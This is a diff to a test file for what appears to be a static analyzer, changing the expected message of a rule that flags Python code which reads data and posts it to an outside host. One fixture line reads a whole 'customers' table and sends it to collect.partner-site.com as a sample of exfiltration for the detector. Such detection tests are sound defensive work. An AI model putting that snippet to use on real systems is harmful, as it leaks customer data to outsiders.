@@ -107,7 +107,10 @@ test('uploads are told from downloads and from mere names', () => {
 test('data that was read and is posted outside is named', () => {
   const text =
     'import pandas as pd, requests\nd = pd.read_sql("SELECT * FROM customers", c)\nrequests.post("https://collect.partner-site.com", json={"rows": d.to_dict()})';
-  assert.is(finding(text, 'PYS-NET-006').message, 'Sends database to collect.partner-site.com');
+  assert.is(
+    finding(text, 'PYS-NET-006').message,
+    'Sends data that it read (database) to collect.partner-site.com',
+  );
   assert.not.ok(
     rulesOf('import requests\nrequests.post("https://collect.partner-site.com", json={"a": 1})').includes(
       'PYS-NET-006',
